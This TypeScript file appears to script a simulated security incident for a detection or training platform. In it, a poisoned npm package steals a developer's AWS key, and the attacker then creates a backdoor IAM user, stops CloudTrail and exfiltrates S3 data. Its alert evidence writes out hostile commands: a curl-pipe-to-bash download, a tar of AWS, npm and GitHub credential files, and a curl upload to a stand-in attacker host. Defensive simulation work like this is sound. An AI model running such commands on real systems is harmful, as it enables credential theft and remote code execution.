// A developer's laptop gives away an AWS access key; the key is used to look around and to empty a bucket.
import { cloudApplication } from '../applications.ts';
import { awsAccount, awsResource, ec2Instance, iamRole, iamUser, s3Bucket } from '../clouds.ts';
import { DEVICES, file, fileHash, malware, processChain } from '../devices.ts';
import { cloudSession, connection, dns, ip, url } from '../network.ts';
import { account, ANALYSTS, PEOPLE, user } from '../people.ts';
import { guidFor } from '../identifiers.ts';
import { inOrder, seen } from '../script.ts';
import type { AlertScript, IncidentScript, Sighting } from '../script.ts';

const laptop = DEVICES['lt-tkovar'];
const developer = user(PEOPLE.tomas);
const attackerIp = ip('203.0.113.77');
const exitIp = ip('192.0.2.163');
const key = iamUser('production', 'ci-deploy');
const backdoorUser = iamUser('production', 'svc-cloudwatch-sync');
const readRole = iamRole('production', 'manifest-reader');
const manifests = s3Bucket('production', 'nwh-cargo-manifests');
const invoices = s3Bucket('production', 'nwh-customer-invoices');
const trail = awsResource(
  { account: 'production', region: 'eu-west-1', service: 'cloudtrail' },
  'trail/org-audit',
  'AWS::CloudTrail::Trail',
);
const stage = ec2Instance('production', 'eu-central-1', 'i-0b7d41fa9c3e85521');
const stealer = file(laptop, '/Users/tkovar/node_modules/.cache/ship-eta-client/postinstall.js');
const credentials = file(laptop, '/Users/tkovar/.aws/credentials');
const drop = url('https://telemetry.ship-eta.example/v1/collect');

const ACTIVE = { verdict: 'malicious', remediation: 'active' } as const;

/** What nearly every later alert has in common: the key, the account, and where the caller was. */
const keyUsedFrom = (address: Sighting['facts']): readonly Sighting[] => [
  seen(key, 'compromised', { ...ACTIVE, detailedRoles: ['Access key AKIA4ZEXAMPLE7Q2VN5D'] }),
  seen(awsAccount('production'), 'attacked'),
  seen(address, ['attacker', 'source'], { verdict: 'malicious' }),
];

const onLaptop: readonly AlertScript[] = [
  {
    after: '0m',
    from: 'endpoint',
    title: 'Suspicious script launched by a package manager',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1195.002', 'T1059.007'],
    tells:
      'npm ran an install script of ship-eta-client 4.2.1 that starts a shell and downloads code. Version 4.2.1 was published two hours before and withdrawn the same day.',
    advice: 'Remove the package, isolate the device, treat every credential on it as lost.',
    evidence: [
      seen(laptop, 'compromised', { detailedRoles: ['Main device'] }),
      seen(developer, 'compromised'),
      ...processChain({
        on: laptop,
        as: account(PEOPLE.tomas),
        steps: [
          ['/bin/zsh', '-zsh'],
          ['/opt/homebrew/bin/node', 'npm install ship-eta-client@latest'],
          ['/opt/homebrew/bin/node', 'node ./postinstall.js'],
          ['/bin/sh', 'sh -c "curl -fsSL https://telemetry.ship-eta.example/v1/p | bash"'],
        ],
        judgement: ACTIVE,
      }),
      seen(stealer, 'suspicious', { verdict: 'malicious', remediation: 'active' }),
      seen(drop, 'commandAndControl', { verdict: 'malicious' }),
    ],
  },
  {
    after: '3m',
    from: 'antivirus',
    title: "'NodeStealer' malware was detected",
    severity: 'medium',
    category: 'Malware',
    techniques: ['T1204.005'],
    tells: 'A script that collects tokens and keys of developer tools was found after it had run.',
    threat: 'Trojan:JS/NodeStealer.AB',
    family: 'NodeStealer',
    investigation: 'pendingApproval',
    evidence: [
      seen(laptop, 'compromised'),
      seen(stealer, 'suspicious', { verdict: 'malicious', remediation: 'pendingApproval' }),
      seen(
        malware('Trojan:JS/NodeStealer.AB', 'CredentialStealer', [stealer]),
        'suspicious',
        ACTIVE,
      ),
      seen(
        fileHash('sha256', '/Users/tkovar/node_modules/.cache/ship-eta-client/postinstall.js'),
        'suspicious',
        { verdict: 'malicious' },
      ),
    ],
  },
  {
    after: '4m',
    from: 'endpoint',
    title: 'Suspicious access to cloud credential files',
    severity: 'high',
    category: 'CredentialAccess',
    techniques: ['T1552.001'],
    tells:
      'A script read ~/.aws/credentials, ~/.npmrc and ~/.config/gh/hosts.yml within one second.',
    advice: 'Rotate the access keys in these files.',
    evidence: [
      seen(laptop, 'compromised'),
      ...processChain({
        on: laptop,
        as: account(PEOPLE.tomas),
        steps: [
          ['/opt/homebrew/bin/node', 'node ./postinstall.js'],
          [
            '/bin/bash',
            'bash -c "tar cz ~/.aws/credentials ~/.npmrc ~/.config/gh/hosts.yml | openssl enc -aes-256-cbc -k $K -out /tmp/.s"',
          ],
        ],
        judgement: ACTIVE,
      }),
      seen(credentials, ['attacked', 'compromised'], { verdict: 'suspicious' }),
    ],
  },
  {
    after: '6m',
    lasts: '2m',
    from: 'endpoint',
    title: 'Possible exfiltration of credentials over an encrypted channel',
    severity: 'high',
    category: 'Exfiltration',
    techniques: ['T1041'],
    tells:
      '4.1 KB were sent to telemetry.ship-eta.example right after credential files had been read.',
    evidence: [
      seen(laptop, 'compromised'),
      ...processChain({
        on: laptop,
        as: account(PEOPLE.tomas),
        steps: [
          ['/bin/bash', 'bash'],
          ['/usr/bin/curl', 'curl -s -T /tmp/.s https://telemetry.ship-eta.example/v1/collect'],
        ],
        judgement: ACTIVE,
      }),
      seen(drop, 'commandAndControl', { verdict: 'malicious' }),
      seen(dns('telemetry.ship-eta.example', '10.20.6.18', ['203.0.113.77']), 'suspicious', {
        verdict: 'malicious',
      }),
      seen(connection(['10.20.6.18', 52144], ['203.0.113.77', 443]), 'suspicious'),
      seen(attackerIp, 'commandAndControl', { verdict: 'malicious' }),
    ],
  },
];

interface Call {
  readonly after: string;
  readonly type: string;
  readonly title: string;
  readonly severity: AlertScript['severity'];
  readonly category: string;
  readonly technique: string;
  readonly tells: string;
  readonly touches: readonly Sighting[];
  readonly address?: Sighting['facts'];
  readonly lasts?: string;
}

const finding = (call: Call): AlertScript => ({
  after: call.after,
  lasts: call.lasts ?? '5m',
  from: 'guardDuty',
  type: call.type,
  title: call.title,
  severity: call.severity,
  category: call.category,
  techniques: [call.technique],
  tells: call.tells,
  advice: 'Deactivate the access key, then look for what it made: users, keys, roles, instances.',
  evidence: [...keyUsedFrom(call.address ?? attackerIp), ...call.touches],
});

const inAws: readonly AlertScript[] = [
  finding({
    after: '14h10m',
    type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom',
    title: 'API GetCallerIdentity was invoked from an IP address on a custom threat list',
    severity: 'medium',
    category: 'InitialAccess',
    technique: 'T1078.004',
    tells:
      'The access key of ci-deploy was used from Bucharest. It had only ever been used by the build agents.',
    touches: [],
  }),
  finding({
    after: '14h13m',
    type: 'Recon:IAMUser/MaliciousIPCaller',
    title: 'Reconnaissance API ListUsers was invoked from a known malicious IP address',
    severity: 'medium',
    category: 'Discovery',
    technique: 'T1087.004',
    tells: 'ListUsers, ListRoles and ListAttachedUserPolicies in 40 seconds.',
    touches: [seen(readRole, 'scanned')],
  }),
  finding({
    after: '14h16m',
    lasts: '11m',
    type: 'Discovery:IAMUser/AnomalousBehavior',
    title: 'User IAMUser : ci-deploy is anomalously invoking APIs used to discover resources',
    severity: 'low',
    category: 'Discovery',
    technique: 'T1580',
    tells: 'DescribeInstances in 17 regions.',
    touches: [seen(stage, 'scanned')],
  }),
  finding({
    after: '14h31m',
    type: 'Discovery:S3/MaliciousIPCaller',
    title: 'S3 API ListBuckets was invoked from a known malicious IP address',
    severity: 'high',
    category: 'Discovery',
    technique: 'T1619',
    tells: 'Buckets were listed, then their policies read one by one.',
    touches: [seen(manifests, 'scanned'), seen(invoices, 'scanned')],
  }),
  finding({
    after: '15h02m',
    type: 'PrivilegeEscalation:IAMUser/AnomalousBehavior',
    title: 'User IAMUser : ci-deploy is anomalously invoking APIs used to gain privileges',
    severity: 'medium',
    category: 'PrivilegeEscalation',
    technique: 'T1098.003',
    tells: 'AttachUserPolicy put AdministratorAccess on a user that was made a minute before.',
    touches: [seen(backdoorUser, 'created', ACTIVE)],
  }),
  finding({
    after: '15h04m',
    type: 'Persistence:IAMUser/AnomalousBehavior',
    title: 'User IAMUser : ci-deploy is anomalously invoking APIs used to keep access',
    severity: 'medium',
    category: 'Persistence',
    technique: 'T1136.003',
    tells: 'CreateUser and CreateAccessKey for svc-cloudwatch-sync, a name close to one of ours.',
    touches: [seen(backdoorUser, ['created', 'attacker'], ACTIVE)],
  }),
  finding({
    after: '15h20m',
    type: 'Stealth:IAMUser/CloudTrailLoggingDisabled',
    title: 'AWS CloudTrail trail org-audit was disabled by svc-cloudwatch-sync',
    severity: 'high',
    category: 'DefenseEvasion',
    technique: 'T1562.008',
    tells: 'StopLogging was called on the organisation trail.',
    touches: [
      seen(backdoorUser, 'attacker', ACTIVE),
      seen(trail, 'edited', { verdict: 'suspicious', remediation: 'remediated' }),
    ],
  }),
  finding({
    after: '1d1h30m',
    lasts: '3h',
    type: 'UnauthorizedAccess:IAMUser/ConsoleLoginSuccess.B',
    title: 'Multiple worldwide successful console logins were observed',
    severity: 'medium',
    category: 'InitialAccess',
    technique: 'T1078.004',
    tells:
      'svc-cloudwatch-sync signed in to the console from Amsterdam and Bucharest within an hour.',
    touches: [seen(backdoorUser, 'attacker', ACTIVE)],
    address: exitIp,
  }),
  finding({
    after: '1d2h05m',
    type: 'Behavior:EC2/TrafficVolumeUnusual',
    title: 'Unusually large amount of network traffic from EC2 instance',
    severity: 'medium',
    category: 'Collection',
    technique: 'T1074.002',
    tells:
      'An instance started in eu-central-1, a region that this account does not use, pulls objects out of S3.',
    touches: [seen(stage, ['created', 'attacker'], ACTIVE), seen(manifests, 'source')],
    address: exitIp,
  }),
  finding({
    after: '1d2h40m',
    lasts: '2h30m',
    type: 'Exfiltration:S3/AnomalousBehavior',
    title: 'User IAMUser : svc-cloudwatch-sync is anomalously invoking S3 GetObject APIs',
    severity: 'high',
    category: 'Exfiltration',
    technique: 'T1530',
    tells: '61,204 objects (118 GB) were read from nwh-cargo-manifests.',
    touches: [
      seen(backdoorUser, 'attacker', ACTIVE),
      seen(manifests, ['attacked', 'source'], { verdict: 'suspicious' }),
      seen(stage, 'attacker'),
    ],
    address: exitIp,
  }),
  finding({
    after: '1d4h15m',
    lasts: '40m',
    type: 'Exfiltration:S3/MaliciousIPCaller',
    title: 'S3 API GetObject was invoked from a known malicious IP address',
    severity: 'high',
    category: 'Exfiltration',
    technique: 'T1530',
    tells: '2,310 invoices were read from nwh-customer-invoices.',
    touches: [
      seen(backdoorUser, 'attacker', ACTIVE),
      seen(invoices, ['attacked', 'source'], { verdict: 'suspicious' }),
    ],
    address: attackerIp,
  }),
  finding({
    after: '1d5h',
    type: 'Impact:S3/AnomalousBehavior.Delete',
    title: 'User IAMUser : svc-cloudwatch-sync is anomalously invoking S3 DeleteObject APIs',
    severity: 'high',
    category: 'Impact',
    technique: 'T1485',
    tells: 'Access logs of the last week were deleted from nwh-cargo-manifests.',
    touches: [seen(backdoorUser, 'attacker', ACTIVE), seen(manifests, 'attacked')],
    address: attackerIp,
  }),
];

const session = cloudSession(
  developer,
  guidFor('session/aws-sso'),
  'Mozilla/5.0 (X11; Linux x86_64) Chrome/129.0',
);

const elsewhere: readonly AlertScript[] = [
  {
    after: '14h50m',
    from: 'cloudApps',
    title: 'Activity from infrequent country',
    severity: 'medium',
    category: 'InitialAccess',
    techniques: ['T1078.004'],
    tells: 'Tomáš Kovář opened the AWS access portal from Romania.',
    evidence: [
      seen(developer, 'compromised', { verdict: 'suspicious', remediation: 'active' }),
      seen(cloudApplication('aws'), 'attacked'),
      seen(attackerIp, 'source', { verdict: 'malicious' }),
      seen(session, 'suspicious', { verdict: 'suspicious' }),
    ],
  },
  {
    after: '14h52m',
    from: 'entra',
    title: 'Anomalous Token',
    severity: 'high',
    category: 'CredentialAccess',
    techniques: ['T1550.004', 'T1539'],
    tells:
      'A session token of Tomáš Kovář was used with characteristics that do not fit his devices.',
    evidence: [
      seen(developer, 'compromised', {
        verdict: 'malicious',
        remediation: 'remediated',
        details: 'Sessions revoked',
      }),
      seen(attackerIp, 'attacker', { verdict: 'malicious' }),
      seen(session, 'suspicious'),
    ],
  },
  {
    after: '15h25m',
    from: 'sentinelNrt',
    title: 'NRT AWS CloudTrail changed or stopped',
    severity: 'high',
    category: 'DefenseEvasion',
    techniques: ['T1562.008'],
    tells: 'StopLogging for trail org-audit, by svc-cloudwatch-sync.',
    evidence: [
      seen(trail, 'edited', { verdict: 'suspicious', remediation: 'remediated' }),
      seen(backdoorUser, 'attacker', ACTIVE),
      seen(attackerIp, 'attacker'),
    ],
  },
  {
    after: '1d5h20m',
    from: 'xdr',
    title: 'Mass download from cloud storage after credential theft on a device',
    severity: 'high',
    category: 'Exfiltration',
    techniques: ['T1530', 'T1552.001'],
    tells: 'The XDR engine tied the reads of nwh-cargo-manifests to the key that lt-tkovar lost.',
    evidence: [
      seen(laptop, 'compromised'),
      seen(key, 'compromised', ACTIVE),
      seen(manifests, 'attacked'),
      seen(attackerIp, 'attacker'),
    ],
  },
];

export const AWS_KEY_THEFT: IncidentScript = {
  key: 'aws-key-theft',
  id: '4176',
  startsAt: '-5d 15:42',
  name: 'AWS access key stolen from a developer laptop, S3 data exfiltrated',
  tells:
    'A poisoned npm package on lt-tkovar stole the access key of ci-deploy. It was used from abroad to make a second administrator, to stop CloudTrail, and to read 118 GB from S3.',
  status: 'inProgress',
  assignedTo: ANALYSTS.amara,
  classification: 'truePositive',
  determination: 'multiStagedAttack',
  priority: 94,
  systemTags: ['Critical asset', 'Credential theft'],
  customTags: ['AWS', 'Supply chain', 'Legal informed'],
  comments: [
    {
      after: '16h',
      by: ANALYSTS.amara,
      text: 'Key of ci-deploy deactivated at 07:40 UTC. Build agents moved to roles.',
    },
    {
      after: '1d6h',
      by: ANALYSTS.amara,
      text: 'svc-cloudwatch-sync was not ours. Deleted, with both of its keys. CloudTrail is on again.',
    },
    {
      after: '2d2h',
      by: ANALYSTS.lin,
      text: 'Object list of what was read is in the case folder. Manifests contain consignee names: Legal informed.',
    },
  ],
  alerts: inOrder(onLaptop, inAws, elsewhere),
  continues: [
    finding({
      after: '0s',
      type: 'UnauthorizedAccess:IAMUser/MaliciousIPCaller',
      title: 'API was invoked from a known malicious IP address with a deactivated key',
      severity: 'medium',
      category: 'InitialAccess',
      technique: 'T1078.004',
      tells: 'The old key of ci-deploy was tried again and refused.',
      touches: [],
    }),
    finding({
      after: '0s',
      type: 'Discovery:S3/AnomalousBehavior',
      title: 'S3 API ListObjects was invoked in an unusual way',
      severity: 'low',
      category: 'Discovery',
      technique: 'T1619',
      tells: 'Listing of nwh-cargo-manifests was refused.',
      touches: [seen(manifests, 'scanned')],
      address: exitIp,
    }),
  ],
};
